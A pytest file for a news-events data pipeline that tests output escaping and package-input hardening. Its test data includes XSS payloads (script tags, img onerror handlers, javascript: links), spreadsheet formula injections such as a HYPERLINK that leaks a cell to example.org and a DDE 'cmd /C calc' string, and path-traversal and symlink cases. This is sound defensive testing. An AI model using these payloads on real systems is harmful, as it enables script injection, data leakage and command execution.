"""Outputs other programs read are safe: the datasheet escapes Markdown and HTML from the data, the CSV's
spreadsheet risk is documented (cells stay as written), the report escapes the same values, and a malformed
package gives the report a located problem, never a crash, a page written or a file read outside the package.

The datasheet is rendered to HTML with markdown-it-py (CommonMark with GFM tables and strikethrough, raw HTML
allowed as GitHub's renderer allows it before sanitising), so "escaped" means: what a reader sees is the data's
own characters, and no tag, handler or link comes out of it.
"""

from __future__ import annotations

import csv
import hashlib
import json
import os
import shutil
import stat
import sys
from html.parser import HTMLParser
from pathlib import Path

import pytest
from markdown_it import MarkdownIt
from test_hostile import assert_refused
from typer.testing import CliRunner

from pipeline.cli import app
from pipeline.contract import schemas
from pipeline.package.datasheet import (
    code,
    free_text_columns,
    inline_text,
    render_datasheet,
    table_cell,
    url,
)

from conftest import BASE_SEEDS, edit_descriptor, tree

runner = CliRunner()
MARKDOWN = MarkdownIt("commonmark").enable(["table", "strikethrough"])

SCRIPT = "<script>alert(1)</script>"
IMG = '<img src=x onerror="alert(1)">'
LINK = "[click](javascript:alert(1))"


class Html(HTMLParser):
    """Tags with their attributes, tables (rows of cell texts) and the whole text of an HTML fragment or page."""

    def __init__(self, source: str):
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict]] = []
        self.tables: list[list[list[str]]] = []  # per table, its rows of cell texts
        self.text = ""
        self._cell: str | None = None
        self.feed(source)

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, dict(attrs)))
        if tag == "table":
            self.tables.append([])
        elif tag == "tr":
            self.tables[-1].append([])
        elif tag in ("td", "th"):
            self._cell = ""

    def handle_endtag(self, tag):
        if tag in ("td", "th") and self._cell is not None:
            self.tables[-1][-1].append(self._cell)
            self._cell = None

    def handle_data(self, data):
        self.text += data
        if self._cell is not None:
            self._cell += data


def plain(value: str) -> str:
    """A value as the datasheet shows it: on one line, runs of white space as one space."""
    return " ".join(value.split())


# ---- the escaping functions ----

INLINE = [
    (SCRIPT, r"\<script\>alert(1)\</script\>"),
    (IMG, r'\<img src=x onerror="alert(1)"\>'),
    (LINK, r"\[click\](javascript:alert(1))"),
    ("![pixel](https://example.org/p.png)", r"!\[pixel\](https://example.org/p.png)"),
    ("<javascript:alert(1)>", r"\<javascript:alert(1)\>"),
    ("``code`` and `more`", r"\`\`code\`\` and \`more\`"),
    ("first line\n\n<script>alert(2)</script>\n", r"first line \<script\>alert(2)\</script\>"),
    ("# Heading", r"\# Heading"),
    ("- item", r"\- item"),
    ("+ item", r"\+ item"),
    ("=====", r"\====="),
    ("2. second", r"2\. second"),
    ("12) twelfth", r"12\) twelfth"),
    ("*bold* _it_ ~~struck~~", r"\*bold\* \_it\_ \~\~struck\~\~"),
    ("&lt;b&gt; &amp; &#60;", r"\&lt;b\&gt; \&amp; \&#60;"),
    ("a \\| b \\* end\\", r"a \\| b \\\* end\\"),
    # Plain text keeps its bytes: no markup can start here.
    ("left | right", "left | right"),
    ("snake_case_name and count_conventions", "snake_case_name and count_conventions"),
    ("40.5 km (about 25 miles), -3 degrees", "40.5 km (about 25 miles), -3 degrees"),
    ("UTF-8, NFC, \\n line ends", "UTF-8, NFC, \\n line ends"),
    ('Le Drian "on Wednesday"; 27 September 2020.', 'Le Drian "on Wednesday"; 27 September 2020.'),
    ("", ""),
]


@pytest.mark.parametrize("value, expected", INLINE, ids=[v[:24] or "empty" for v, _ in INLINE])
def test_inline_text_escapes_exactly_what_could_become_markup(value: str, expected: str):
    assert inline_text(value) == expected


@pytest.mark.parametrize(
    "value, expected",
    [
        ("a`b", "``a`b``"),
        ("`x`", "`` `x` ``"),
        ("x|y", "`x|y`"),
        (SCRIPT, f"`{SCRIPT}`"),
        ("two\nlines", "`two lines`"),
        ("", ""),
    ],
    ids=["backtick", "backticks-at-ends", "pipe", "script", "newline", "empty"],
)
def test_code_span_is_fenced_by_more_backticks_than_it_holds(value: str, expected: str):
    assert code(value) == expected


@pytest.mark.parametrize(
    "value, expected",
    [
        ("https://example.org/a_b?x=1&y=2", "<https://example.org/a_b?x=1&y=2>"),
        ("javascript:alert(1)", "javascript:alert(1)"),
        ("data:text/html,<script>x</script>", r"data:text/html,\<script\>x\</script\>"),
        ("https://example.org/<script>", r"https://example.org/\<script\>"),
        ("", ""),
    ],
    ids=["web", "javascript", "data", "markup-in-web", "empty"],
)
def test_url_links_only_web_addresses(value: str, expected: str):
    assert url(value) == expected


@pytest.mark.parametrize("value", [v for v, _ in INLINE if v], ids=[v[:24] for v, _ in INLINE if v])
def test_escaped_values_render_as_their_own_characters(value: str):
    rendered = Html(MARKDOWN.render(inline_text(value)))
    assert [tag for tag, _ in rendered.tags] == ["p"]
    assert rendered.text == plain(value) + "\n"
    source = f"| text | code |\n|---|---|\n| {table_cell(inline_text(value))} | {table_cell(code(value))} |\n"
    cells = Html(MARKDOWN.render(source))
    assert cells.tables == [[["text", "code"], [plain(value), plain(value)]]]
    assert {tag for tag, _ in cells.tags} == {"table", "thead", "tbody", "tr", "th", "td", "code"}


# ---- the datasheet of a package holding markup ----


def write_cells(path: Path, changes: dict[str, str], row: int = 0) -> None:
    """Set some cells of one data row of a CSV file."""
    with open(path, encoding="utf-8", newline="") as handle:
        rows = list(csv.DictReader(handle))
    rows[row].update(changes)
    with open(path, "w", encoding="utf-8", newline="") as handle:
        writer = csv.DictWriter(handle, fieldnames=list(rows[0]), lineterminator="\r\n")
        writer.writeheader()
        writer.writerows(rows)


def resource(descriptor: dict, name: str) -> dict:
    return next(r for r in descriptor["resources"] if r["name"] == name)


def _hostile_descriptor(descriptor: dict) -> None:
    descriptor.update(
        title="*Title* <script>t</script>",
        description="- item\n\n<img src=x onerror=alert(3)>",
        keywords=["<b>bold</b>", "a|b"],
    )
    descriptor["licenses"][0]["path"] = "javascript:alert(4)"
    sources = resource(descriptor, "sources")
    sources["description"] = "[x](javascript:alert(5))"
    sources["schema"]["fields"][1]["description"] = "a | b `c`\nnext"
    actor_type = next(
        f for f in resource(descriptor, "actors")["schema"]["fields"] if f["name"] == "actor_type"
    )
    actor_type["categories"][0]["label"] = "<i>label</i> | more"


@pytest.fixture
def hostile_package(tmp_path: Path, published_minimal: Path) -> Path:
    """The minimal package with markup in the values the datasheet and the report print."""
    package = tmp_path / "package"
    shutil.copytree(published_minimal, package)
    write_cells(
        package / "data" / "sources.csv",
        {
            "title": SCRIPT,
            "publisher": IMG,
            "url": "javascript:alert(1)",
            "published_date_basis": "first line\n\n<script>alert(2)</script>",
            "note": "## Note\n<img src=x onerror=alert(6)> `x`",
        },
    )
    write_cells(
        package / "data" / "count_conventions.csv",
        {"phrase": "left | right", "basis": "# Heading | `x` [a](javascript:b)"},
    )
    edit_descriptor(package, _hostile_descriptor)
    return package


def test_datasheet_escapes_every_value_it_prints(hostile_package: Path):
    lines = render_datasheet(hostile_package).splitlines()
    for expected in [
        r"# \*Title\* \<script\>t\</script\>: datasheet",
        r"\- item \<img src=x onerror=alert(3)\>",
        "| Licence | Creative Commons Attribution 4.0 International |",
        r"| Keywords | \<b\>bold\</b\>, a\|b |",
        r'| wire-2020-09-30 | \<img src=x onerror="alert(1)"\> | \<script\>alert(1)\</script\> | 2020-09-30 | '
        r"first line \<script\>alert(2)\</script\> | javascript:alert(1) | 236 | "
        r"\## Note \<img src=x onerror=alert(6)\> \`x\` |",
        r"| dozens | left \| right | 12 | 99 | \# Heading \| \`x\` \[a\](javascript:b) |",
        r"\[x\](javascript:alert(5))",
        r"| `title` | string | yes | a \| b \`c\` next | minLength `1` |  |",
        r"> Karabakh news-events annotation team (2020). \*Title\* \<script\>t\</script\> "
        r"(version 0.1.0, 2020-09-30) \[Data set\]. karabakh-2020-news-events, "
        "urn:uuid:4f7c2a1e-9b3d-4e62-8a51-2c0d7e93b6f4. datapackage.json sha256:"
        + hashlib.sha256((hostile_package / "datapackage.json").read_bytes()).hexdigest()
        + ".",
    ]:
        assert expected in lines, expected
    actor_type = next(line for line in lines if line.startswith("| `actor_type` |"))
    assert r"`state` (\<i\>label\</i\> \| more)" in actor_type


ALLOWED_TAGS = {
    "h1",
    "h2",
    "h3",
    "h4",
    "strong",
    "p",
    "a",
    "code",
    "em",
    "pre",
    "ul",
    "li",
    "blockquote",
    "table",
    "thead",
    "tbody",
    "tr",
    "th",
    "td",
}


def test_datasheet_renders_to_html_with_no_markup_from_the_data(hostile_package: Path):
    sheet = render_datasheet(hostile_package)
    page = Html(MARKDOWN.render(sheet))
    assert {tag for tag, _ in page.tags} <= ALLOWED_TAGS
    assert [name for _, attrs in page.tags for name in attrs if name.startswith("on")] == []
    assert [
        attrs for tag, attrs in page.tags if tag == "a"
    ] == []  # the licence and the url are javascript:
    assert len(page.tables) == sum(line.startswith("|---") for line in sheet.splitlines()) == 16
    for rows in page.tables:
        assert {len(row) for row in rows} == {len(rows[0])}, rows
    source = next(row for rows in page.tables for row in rows if row[0] == "wire-2020-09-30")
    basis = "first line <script>alert(2)</script>"
    assert source == [
        "wire-2020-09-30",
        IMG,
        SCRIPT,
        "2020-09-30",
        basis,
        "javascript:alert(1)",
        "236",
        "## Note <img src=x onerror=alert(6)> `x`",
    ]
    convention = next(row for rows in page.tables for row in rows if row[0] == "dozens")
    assert convention == ["dozens", "left | right", "12", "99", "# Heading | `x` [a](javascript:b)"]
    assert page.text.startswith("*Title* <script>t</script>: datasheet\n")
    assert "\n- item <img src=x onerror=alert(3)>\n" in page.text


# ---- CSV cells a spreadsheet would take for formulas: published as written, the risk documented ----

FORMULAS = {  # (annotation line, the value it now holds)
    "events": (
        "summary: Shelling of Terter, blamed on Armenia, denied by Armenia.",
        'summary: \'=HYPERLINK("https://example.org/?leak="&A1,"Terter")\'',
        '=HYPERLINK("https://example.org/?leak="&A1,"Terter")',
    ),
    "statements": (
        "summary: Azerbaijan blamed Armenian shelling for deaths in Terter.",
        "summary: \"+cmd|' /C calc'!A0\"",
        "+cmd|' /C calc'!A0",
    ),
    "statements-2": (
        "summary: Armenia denied the report.",
        "summary: '@SUM(1,2) -2+3'",
        "@SUM(1,2) -2+3",
    ),
}


def test_formula_like_cells_are_published_as_written_and_the_datasheet_warns(tmp_path: Path):
    seeds = tmp_path / "seeds"
    shutil.copytree(BASE_SEEDS, seeds)
    path = seeds / "wire-2020-09-30" / "annotations.yaml"
    text = path.read_text(encoding="utf-8")
    for before, after, _ in FORMULAS.values():
        assert text.count(before) == 1
        text = text.replace(before, after)
    path.write_text(text, encoding="utf-8")
    out = tmp_path / "datapackage"
    result = runner.invoke(app, ["publish", "--seeds", str(seeds), "--out", str(out)])
    assert result.exit_code == 0, result.output
    summaries = []
    for table in ("events", "statements"):
        with open(out / "data" / f"{table}.csv", encoding="utf-8", newline="") as handle:
            summaries += [row["summary"] for row in csv.DictReader(handle)]
    assert sorted(summaries) == sorted(value for _, _, value in FORMULAS.values())
    sheet = (out / "README.md").read_text(encoding="utf-8")
    note = sheet.split("\n### Opening the CSV in a spreadsheet\n\n", 1)[1].split("\n## ", 1)[0]
    assert note.startswith(
        "The CSV files keep the text of the annotations exactly as written, so a cell of a "
        "free-text column may begin with `=`, `+`, `-`, `@`, a tab or a carriage return."
    )
    assert "\n- `events`: `summary`, `note`\n- `statements`: `quote`, `summary`, `note`\n" in note
    assert "import the CSV into the spreadsheet as text" in note


def test_free_text_columns_are_strings_no_pattern_code_list_or_key_constrains(
    published_minimal: Path,
):
    descriptor = json.loads((published_minimal / "datapackage.json").read_text(encoding="utf-8"))
    assert free_text_columns(descriptor) == [
        ("sources", ["title", "publisher", "published_date_basis", "url", "note"]),
        ("count_conventions", ["phrase", "basis"]),
        ("actors", ["name", "role", "note"]),
        ("places", ["name", "admin1", "note"]),
        ("events", ["summary", "note"]),
        ("statements", ["quote", "summary", "note"]),
        ("casualty_reports", ["count_text", "note"]),
        ("evidence", ["record_id", "exact"]),
        ("changes", ["fields", "reason"]),
    ]


# ---- the report escapes the same values ----


def test_report_pages_hold_no_markup_from_the_data(hostile_package: Path, tmp_path: Path):
    data = hostile_package / "data"
    write_cells(data / "actors.csv", {"name": SCRIPT, "note": IMG})
    write_cells(data / "places.csv", {"name": IMG, "admin1": LINK})
    write_cells(
        data / "events.csv", {"summary": SCRIPT + " " + LINK, "note": "</td></tr></table>" + SCRIPT}
    )
    write_cells(data / "statements.csv", {"summary": IMG, "quote": '"><script>alert(7)</script>'})
    write_cells(data / "casualty_reports.csv", {"count_text": "</text></svg>" + SCRIPT})
    write_cells(data / "evidence.csv", {"exact": "</a>" + SCRIPT})
    out = tmp_path / "report"
    result = runner.invoke(
        app,
        [
            "report",
            "--package",
            str(hostile_package),
            "--seeds",
            str(BASE_SEEDS),
            "--out",
            str(out),
        ],
    )
    assert result.exit_code == 0, result.output
    pages = sorted(out.glob("*.html"))
    assert len(pages) == 15
    for path in pages:
        html = path.read_text(encoding="utf-8")
        page = Html(html)
        assert "<script>alert" not in html and "<img" not in html, path.name
        # the report's own script, and on the overview its JSON-LD
        scripts = 2 if path.name == "index.html" else 1
        assert [tag for tag, _ in page.tags].count("script") == scripts, path.name
        assert [name for _, attrs in page.tags for name in attrs if name.startswith("on")] == [], (
            path.name
        )
        hrefs = [attrs["href"] for _, attrs in page.tags if "href" in attrs]
        assert [
            h
            for h in hrefs
            if not h.startswith(
                (
                    "#",
                    "table-",
                    "source-",
                    "index.html",
                    "charts.html",
                    "casualties.html",
                    "map.html",
                    "checks.html",
                    "data:,",
                    "https://",
                )
            )
        ] == [], path.name
    index = Html((out / "index.html").read_text(encoding="utf-8"))
    assert f"{SCRIPT} — {IMG}, 2020-09-30" in index.text
    charts = Html((out / "charts.html").read_text(encoding="utf-8"))
    assert f"{SCRIPT} {LINK}" in charts.text
    casualties = Html((out / "casualties.html").read_text(encoding="utf-8"))
    assert "</text></svg>" + SCRIPT in casualties.text


# ---- the report on a malformed package: a located problem, nothing written, nothing read outside ----

HINT = "(publish the package again with 'pipeline publish')"
OPENED: list[tuple[str, int]] = []  # (file, open flags) Python opened while a test watches
WATCHING = []


def _audit(event: str, args: tuple) -> None:
    if WATCHING and event == "open" and isinstance(args[0], (str, bytes, os.PathLike)):
        OPENED.append((os.fsdecode(args[0]), args[2] if isinstance(args[2], int) else 0))


sys.addaudithook(
    _audit
)  # audit hooks cannot be removed; this one records only while a test watches


def snapshot(folder: Path) -> dict[str, str]:
    """conftest.tree, with pipes named rather than read (reading one would wait for a writer forever)."""
    pipes = {
        str(p.relative_to(folder)): "pipe"
        for p in folder.rglob("*")
        if stat.S_ISFIFO(p.lstat().st_mode)
    }
    for name in pipes:
        (folder / name).unlink()
    try:
        return {**tree(folder), **pipes}
    finally:
        for name in pipes:
            os.mkfifo(folder / name)


def _set(name: str, *keys, value=None, delete: bool = False):
    """A change to the descriptor: set (or delete) the value at `keys` inside resource `name` (or the top)."""

    def change(descriptor: dict) -> None:
        target = descriptor if name == "" else resource(descriptor, name)
        for key in keys[:-1]:
            target = target[key]
        if delete:
            del target[keys[-1]]
        else:
            target[keys[-1]] = value

    return change


def _replace_with(package: Path, relative: str, kind: str, outside: Path) -> None:
    path = package / relative
    shutil.rmtree(path) if path.is_dir() and not path.is_symlink() else path.unlink()
    if kind == "link":
        path.symlink_to(outside / "secret.csv" if path.suffix else outside)
    elif kind == "pipe":
        os.mkfifo(path)
    elif kind == "folder":
        path.mkdir()


def _write(relative: str, content: bytes):
    return lambda package, outside: (package / relative).write_bytes(content)


def _descriptor(change):
    return lambda package, outside: edit_descriptor(package, change)


def _csv(relative: str, changes: dict, row: int = 0):
    return lambda package, outside: write_cells(package / relative, changes, row)


def _header(package: Path, outside: Path) -> None:
    path = package / "data" / "events.csv"
    path.write_bytes(path.read_bytes().replace(b"event_id,date_start", b"event_id,start_date", 1))


def _short_row(package: Path, outside: Path) -> None:
    path = package / "data" / "places.csv"
    path.write_bytes(path.read_bytes().rstrip(b"\r\n").rsplit(b",", 2)[0] + b"\r\n")


MALFORMED = {
    # name: (change to a copy of the package, exit code, the problems printed with {pkg} and {out} for the folders)
    "no-folder": (
        lambda package, outside: shutil.rmtree(package),
        2,
        ["{pkg}: no such folder (pass --package, the folder of a published package)"],
    ),
    "folder-is-a-file": (
        lambda package, outside: (shutil.rmtree(package), package.write_text("x\n")),
        2,
        ["{pkg}: is not a folder (pass --package, the folder of a published package)"],
    ),
    "no-descriptor": (
        lambda package, outside: (package / "datapackage.json").unlink(),
        2,
        ["{pkg}/datapackage.json: the descriptor: no such file (run 'pipeline publish' first)"],
    ),
    "descriptor-not-json": (
        _write("datapackage.json", b'{\n  "name": "x",\n  "resources": [\n}\n'),
        2,
        ["{pkg}/datapackage.json:4: not valid JSON: Expecting value (column 1) " + HINT],
    ),
    "descriptor-not-utf8": (
        _write("datapackage.json", b'{"name": "caf\xe9"}'),
        2,
        ["{pkg}/datapackage.json:1: not valid UTF-8 (byte 0xe9 at offset 13) " + HINT],
    ),
    "descriptor-nested-100k-deep": (
        _write("datapackage.json", b"[" * 100_000 + b"]" * 100_000),
        2,
        ["{pkg}/datapackage.json: JSON nested too deeply to read " + HINT],
    ),
    "descriptor-nested-32-deep": (
        _write("datapackage.json", b'{"a": ' * 31 + b"{}" + b"}" * 31),
        1,
        ["{pkg}/datapackage.json: resources: missing, or not a list of tables " + HINT],
    ),
    "descriptor-nested-33-deep": (
        _write("datapackage.json", b'{"a": ' * 32 + b"{}" + b"}" * 32),
        2,
        ["{pkg}/datapackage.json: JSON nested too deeply to read " + HINT],
    ),
    "descriptor-over-16-mib": (
        _write("datapackage.json", b"{}" + b" " * (16 * 2**20 - 1)),
        2,
        ["{pkg}/datapackage.json: the descriptor: over the 16 MiB limit for a descriptor " + HINT],
    ),
    "descriptor-is-a-link": (
        lambda package, outside: _replace_with(package, "datapackage.json", "link", outside),
        2,
        [
            "{pkg}/datapackage.json: the descriptor: is or passes through a symbolic link; only regular "
            "files inside the package are read " + HINT
        ],
    ),
    "descriptor-is-a-pipe": (
        lambda package, outside: _replace_with(package, "datapackage.json", "pipe", outside),
        2,
        [
            "{pkg}/datapackage.json: the descriptor: not a regular file (a folder, device or FIFO) "
            + HINT
        ],
    ),
    "descriptor-is-a-folder": (
        lambda package, outside: _replace_with(package, "datapackage.json", "folder", outside),
        2,
        [
            "{pkg}/datapackage.json: the descriptor: not a regular file (a folder, device or FIFO) "
            + HINT
        ],
    ),
    "descriptor-is-a-list": (
        _write("datapackage.json", b"[]"),
        1,
        ["{pkg}/datapackage.json: the descriptor is a list, not a JSON object " + HINT],
    ),
    "title-not-a-string": (
        _descriptor(_set("", "title", value=["x"])),
        1,
        ["{pkg}/datapackage.json: title: a list, not a string " + HINT],
    ),
    "resources-not-a-list": (
        _descriptor(_set("", "resources", value={"events": {}})),
        1,
        ["{pkg}/datapackage.json: resources: missing, or not a list of tables " + HINT],
    ),
    "resource-not-an-object": (
        _descriptor(lambda d: d["resources"].__setitem__(7, "evidence")),
        1,
        ["{pkg}/datapackage.json: resources/7: a string, not an object describing a table " + HINT],
    ),
    "resource-name-unsafe": (
        _descriptor(_set("events", "name", value="../../evil")),
        1,
        [
            "{pkg}/datapackage.json: resources/4: name: missing, or not a lowercase name of letters, "
            "digits, - and _ " + HINT,
            "{pkg}/datapackage.json: resources/statements: schema.foreignKeys: each foreign key "
            "names one field of the table and a table of the package " + HINT,
            "{pkg}/datapackage.json: resources/casualty_reports: schema.foreignKeys: each foreign "
            "key names one field of the table and a table of the package " + HINT,
        ],
    ),
    "fields-not-a-list": (
        _descriptor(_set("places", "schema", "fields", value="name")),
        1,
        [
            "{pkg}/datapackage.json: resources/places: schema.fields: not a list of fields, each an "
            "object with a name and a type " + HINT
        ],
    ),
    "primary-key-missing": (
        _descriptor(_set("events", "schema", "primaryKey", delete=True)),
        1,
        [
            "{pkg}/datapackage.json: resources/events: schema.primaryKey: missing, or not one field "
            "of the table " + HINT
        ],
    ),
    "primary-key-of-two-fields": (
        _descriptor(_set("actors", "schema", "primaryKey", value=["actor_id", "name"])),
        1,
        [
            "{pkg}/datapackage.json: resources/actors: schema.primaryKey: missing, or not one "
            "field of the table " + HINT
        ],
    ),
    "field-the-report-reads-missing": (
        _descriptor(lambda d: resource(d, "evidence")["schema"]["fields"].pop(4)),
        1,
        [
            "{pkg}/datapackage.json: resources/evidence: schema.fields: no field 'start' "
            "of type integer, which the report reads " + HINT
        ],
    ),
    "path-absolute": (
        lambda package, outside: edit_descriptor(
            package, _set("events", "path", value=str(outside / "secret.csv"))
        ),
        1,
        [
            "{pkg}/datapackage.json: resources/events: path: '{outside}/secret.csv': is absolute; only "
            "files inside the package are read (name a regular CSV file inside the package folder)"
        ],
    ),
    "path-leaves-the-folder": (
        _descriptor(_set("events", "path", value="data/../../outside/secret.csv")),
        1,
        [
            "{pkg}/datapackage.json: resources/events: path: 'data/../../outside/secret.csv': "
            "leaves the package folder (..) (name a regular CSV file inside the package folder)"
        ],
    ),
    "path-is-a-url": (
        _descriptor(_set("events", "path", value="https://example.org/events.csv")),
        1,
        [
            "{pkg}/datapackage.json: resources/events: path: 'https://example.org/events.csv': is a URL; "
            "only files inside the package are read (name a regular CSV file inside the package folder)"
        ],
    ),
    "path-with-a-nul": (
        _descriptor(_set("events", "path", value="data/events.csv\0.txt")),
        1,
        [
            "{pkg}/datapackage.json: resources/events: path: 'data/events.csv\\x00.txt': holds a NUL "
            "character (name a regular CSV file inside the package folder)"
        ],
    ),
    "csv-is-a-link": (
        lambda package, outside: _replace_with(package, "data/events.csv", "link", outside),
        1,
        [
            "{pkg}/datapackage.json: resources/events: path: 'data/events.csv': is or passes through "
            "a symbolic link; only regular files inside the package are read (name a regular CSV file "
            "inside the package folder)"
        ],
    ),
    "data-folder-is-a-link": (
        lambda package, outside: _replace_with(package, "data", "link", outside),
        1,
        [
            f"{{pkg}}/datapackage.json: resources/{table}: {key}: 'data/{table}.{ext}': is or "
            f"passes through a symbolic link; only regular files inside the package are read (name "
            f"a regular {kind} file inside the package folder)"
            for table in schemas.PACKAGE_TABLES
            for key, ext, kind in [("path", "csv", "CSV"), ("parquet.path", "parquet", "Parquet")]
        ],
    ),
    "parquet-path-absolute": (
        lambda package, outside: edit_descriptor(
            package,
            _set("events", "parquet", "path", value=str(outside / "data" / "events.parquet")),
        ),
        1,
        [
            "{pkg}/datapackage.json: resources/events: parquet.path: "
            "'{outside}/data/events.parquet': is absolute; only files inside the package are read (name a "
            "regular Parquet file inside the package folder)"
        ],
    ),
    "parquet-is-a-link": (
        lambda package, outside: (
            (package / "data" / "places.parquet").unlink()
            or (package / "data" / "places.parquet").symlink_to(outside / "data" / "places.parquet")
        ),
        1,
        [
            "{pkg}/datapackage.json: resources/places: parquet.path: 'data/places.parquet': is or "
            "passes through a symbolic link; only regular files inside the package are read (name a "
            "regular Parquet file inside the package folder)"
        ],
    ),
    "csv-is-a-pipe": (
        lambda package, outside: _replace_with(package, "data/events.csv", "pipe", outside),
        1,
        [
            "{pkg}/datapackage.json: resources/events: path: 'data/events.csv': not a regular file (a "
            "folder, device or FIFO) (name a regular CSV file inside the package folder)"
        ],
    ),
    "csv-missing": (
        lambda package, outside: (package / "data" / "events.csv").unlink(),
        1,
        [
            "{pkg}/datapackage.json: resources/events: path: 'data/events.csv': no such file "
            "(name a regular CSV file inside the package folder)"
        ],
    ),
    "csv-wrong-columns": (
        _header,
        1,
        [
            "{pkg}/data/events.csv:1: the header is event_id, start_date, date_end, date_precision, "
            "event_type, sub_event_type, scope, actor1_id, actor2_id, place_id, claim_status, "
            "claimant_actor_id, summary, note; the schema has event_id, date_start, date_end, "
            "date_precision, event_type, sub_event_type, scope, actor1_id, actor2_id, place_id, "
            "claim_status, "
            "claimant_actor_id, summary, note " + HINT
        ],
    ),
    "csv-row-short": (
        _short_row,
        1,
        ["{pkg}/data/places.csv:2: 6 cells; the header has 8 " + HINT],
    ),
    "csv-not-utf8": (
        _write(
            "data/actors.csv",
            b"actor_id,name,actor_type,country,parent_actor_id,role,wikidata_id,"
            b"note\r\narmenia,Armeni\xe9,state,ARM,,,,\r\n",
        ),
        1,
        ["{pkg}/data/actors.csv:2: not valid UTF-8 (byte 0xe9 at offset 86) " + HINT],
    ),
    "csv-not-an-integer": (
        _csv("data/evidence.csv", {"start": "161.5"}),
        1,
        [
            "{pkg}/data/evidence.csv:2: evidence/actors-armenia-1: start: '161.5' is not an integer "
            "the report can read " + HINT
        ],
    ),
    "csv-integer-beyond-64-bits": (
        _csv("data/evidence.csv", {"end": str(2**64)}),
        1,
        [
            "{pkg}/data/evidence.csv:2: evidence/actors-armenia-1: end: '18446744073709551616' "
            "is not an integer the report can read " + HINT
        ],
    ),
    "csv-required-empty": (
        _csv("data/evidence.csv", {"end": ""}),
        1,
        [
            "{pkg}/data/evidence.csv:2: evidence/actors-armenia-1: end: '' is empty, but required "
            + HINT
        ],
    ),
    "csv-below-minimum": (
        _csv("data/casualty_reports.csv", {"killed_low": "-2"}),
        1,
        [
            "{pkg}/data/casualty_reports.csv:2: casualty_reports/terter-azerbaijan-claim: killed_low: "
            "'-2' is below the minimum 0 " + HINT
        ],
    ),
    "csv-latitude-not-finite": (
        _csv("data/places.csv", {"latitude": "nan"}),
        1,
        [
            "{pkg}/data/places.csv:2: places/terter: latitude: 'nan' is not a number the report "
            "can read " + HINT
        ],
    ),
    "source-id-not-a-file-name": (
        _csv("data/sources.csv", {"source_id": "../../escaped"}),
        1,
        [
            "{pkg}/data/sources.csv: sources/../../escaped: source_id: not a lowercase slug, so "
            "no page can be named after it " + HINT
        ],
    ),
}


@pytest.mark.parametrize("name", sorted(MALFORMED))
def test_report_refuses_a_malformed_package(name: str, tmp_path: Path, published_minimal: Path):
    change, code, expected = MALFORMED[name]
    package, outside, out = tmp_path / "package", tmp_path / "outside", tmp_path / "report"
    shutil.copytree(published_minimal, package)
    shutil.copytree(published_minimal, outside)
    shutil.copyfile(published_minimal / "data" / "events.csv", outside / "secret.csv")
    change(package, outside)
    before = snapshot(tmp_path)
    OPENED.clear()
    WATCHING.append(True)
    try:
        result = runner.invoke(
            app,
            ["report", "--package", str(package), "--seeds", str(BASE_SEEDS), "--out", str(out)],
        )
    finally:
        WATCHING.clear()
    assert_refused(result, code)
    lines = [line.format(pkg=package, outside=outside) for line in expected]
    assert result.output.splitlines() == lines + [f"{len(lines)} problem(s) found."]
    assert snapshot(tmp_path) == before
    assert not out.exists() and not out.is_symlink()
    # An open with O_NOFOLLOW fails on a symbolic link instead of following it.
    followed = [Path(path).resolve() for path, flags in OPENED if not flags & os.O_NOFOLLOW]
    assert [path for path in followed if path.is_relative_to(outside.resolve())] == []


# ---- values at the edges are drawn, not a crash ----

EDGES = {
    # name: (table, cells, page, a snippet of that page)
    "date-in-year-9999": (
        "events",
        {"date_end": "9999-12-31"},
        "table-events.html",
        '<td class="date">9999-12-31</td>',
    ),
    "date-in-year-1": ("statements", {"date": "0001-01-01"}, "charts.html", "0001-01-01"),
    "no-longitude": ("places", {"longitude": ""}, "map.html", "(no coordinates)"),
    "evidence-of-another-table": (
        "evidence",
        {"record_table": "rumours"},
        "source-wire-2020-09-30.html",
        '<span class="tag t-rumours">rumours</span>',
    ),
}


@pytest.mark.parametrize("name", sorted(EDGES))
def test_report_draws_values_at_the_edges(name: str, tmp_path: Path, published_minimal: Path):
    table, cells, page, snippet = EDGES[name]
    package = tmp_path / "package"
    shutil.copytree(published_minimal, package)
    write_cells(package / "data" / f"{table}.csv", cells)
    result = runner.invoke(
        app,
        [
            "report",
            "--package",
            str(package),
            "--seeds",
            str(BASE_SEEDS),
            "--out",
            str(tmp_path / "report"),
        ],
    )
    assert result.exit_code == 0, result.output
    assert snippet in (tmp_path / "report" / page).read_text(encoding="utf-8")


def test_a_source_text_not_in_utf8_is_shown_with_the_digest_of_its_bytes(
    tmp_path: Path, published_minimal: Path
):
    seeds = tmp_path / "seeds"
    shutil.copytree(BASE_SEEDS, seeds)
    (seeds / "wire-2020-09-30" / "text.txt").write_bytes(b"Terter caf\xe9\n")
    result = runner.invoke(
        app,
        [
            "report",
            "--package",
            str(published_minimal),
            "--seeds",
            str(seeds),
            "--out",
            str(tmp_path / "report"),
        ],
    )
    assert result.exit_code == 0, result.output
    page = (tmp_path / "report" / "source-wire-2020-09-30.html").read_text(encoding="utf-8")
    digest = hashlib.sha256(b"Terter caf\xe9\n").hexdigest()
    assert f"differs from sources.text_sha256</span> (seeds text {digest})" in page
    assert "Terter caf\ufffd" in page


def test_report_does_not_follow_a_linked_source_text(tmp_path: Path, published_minimal: Path):
    seeds = tmp_path / "seeds"
    shutil.copytree(BASE_SEEDS, seeds)
    text = seeds / "wire-2020-09-30" / "text.txt"
    secret = tmp_path / "secret.txt"
    shutil.move(text, secret)
    text.symlink_to(secret)
    result = runner.invoke(
        app,
        [
            "report",
            "--package",
            str(published_minimal),
            "--seeds",
            str(seeds),
            "--out",
            str(tmp_path / "report"),
        ],
    )
    assert result.exit_code == 0, result.output
    page = (tmp_path / "report" / "source-wire-2020-09-30.html").read_text(encoding="utf-8")
    assert (
        '<span class="bad">text in seeds/ is a link, not a regular file, or unreadable: not read</span>'
        in page
    )
    assert "The text is not available here" in page and '<div class="text"' not in page
